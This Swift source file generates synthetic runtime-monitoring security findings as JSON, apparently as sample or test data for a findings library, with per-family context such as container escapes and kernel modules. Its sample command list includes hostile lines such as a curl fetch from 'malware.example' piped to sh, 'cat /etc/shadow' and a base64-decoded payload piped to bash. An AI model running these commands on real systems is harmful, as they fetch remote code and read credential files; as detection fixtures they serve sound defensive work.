import Findings

/// What the runtime agent reports: `runtimeDetails` with its process, and the context that the finding's family has.
struct SampleRuntime: SamplePart, Sendable {
  private let family: String
  private let process: SampleProcess
  private let other: SampleProcess
  private let seen: Timestamp
  private let random: SampleRandom
  private let tool: (name: String, category: String)

  init(family: String, seen: Timestamp, _ random: inout SampleRandom) {
    self.family = family
    process = SampleProcess(&random)
    other = SampleProcess(&random)
    tool = random.pick(Self.tools)
    self.seen = seen
    self.random = SampleRandom(seed: random.next())
  }

  func lend(to words: inout SampleWords) {
    process.lend(to: &words)
    words[.tool] = tool.name
  }

  func write(to json: inout JSONText) {
    var random = random
    json.member("featureName", "RuntimeMonitoring")
    json.openObject("runtimeDetails")
    process.write("process", seen: seen, to: &json)
    json.openObject("context")
    writeContext(to: &json, &random)
    json.closeObject()
    json.closeObject()
  }

  private func writeContext(to json: inout JSONText, _ random: inout SampleRandom) {
    switch family {
    case "NewBinaryExecuted", "SensitiveFileModified", "FilelessExecution":
      other.write("modifyingProcess", seen: seen, withLineage: false, to: &json)
      json.epoch("modifiedAt", seen - .seconds(60))
    case "NewLibraryLoaded":
      json.member("libraryPath", "/usr/lib/x86_64-linux-gnu/libprocesshider.so")
      json.member("ldPreloadValue", "/etc/ld.so.preload")
    case "ReverseShell", "SuspiciousShellCreated":
      json.member("addressFamily", "AF_INET")
      json.member("ianaProtocolNumber", 6)
    case "KernelModuleLoaded":
      json.member("moduleName", "diamorphine")
      json.member("moduleFilePath", "/tmp/diamorphine.ko")
      json.openText("moduleSha256")
      for _ in 0..<4 { json.appendHex(random.next()) }
      json.closeText()
    case "ProcessInjection":
      other.write("targetProcess", seen: seen, withLineage: false, to: &json)
      json.member("memoryRegions", ["0x7f3c1a000000-0x7f3c1a021000"])
    case "ContainerMountsHostDirectory":
      json.member("mountSource", "/dev/nvme0n1p1")
      json.member("mountTarget", "/mnt/host")
      json.member("fileSystemType", "xfs")
      json.member("flags", ["MS_BIND", "MS_REC"])
    case "DockerSocketAccessed": json.member("socketPath", "/var/run/docker.sock")
    case "RuncContainerEscape": json.member("runcBinaryPath", "/usr/bin/runc")
    case "CGroupsReleaseAgentModified": json.member("releaseAgentPath", "/sys/fs/cgroup/rdma/release_agent")
    case "SuspiciousTool", "CryptoMinerExecuted":
      json.member("toolName", tool.name)
      json.member("toolCategory", tool.category)
    case "SuspiciousCommand":
      json.member("commandLineExample", random.pick(Self.commands))
      json.member("scriptPath", "/tmp/.cache/run.sh")
      json.member("shellHistoryFilePath", "/root/.bash_history")
    case "MaliciousFileExecuted": json.member("threatFilePath", "/tmp/.x/payload.elf")
    default: break
    }
  }

  private static let tools: [(name: String, category: String)] = [
    ("nmap", "Network Scanner"), ("xmrig", "CryptoMiner"), ("peirates", "Penetration Testing"),
    ("mimipenguin", "Credential Dumper"), ("masscan", "Network Scanner"), ("netcat", "Backdoor Tool"),
  ]
  private static let commands = [
    "iptables -F", "cat /etc/shadow", "chattr -i /etc/crontab", "curl -s http://malware.example/i.sh | sh",
    "base64 -d /tmp/p | bash", "kubectl get secrets -A",
  ]
}
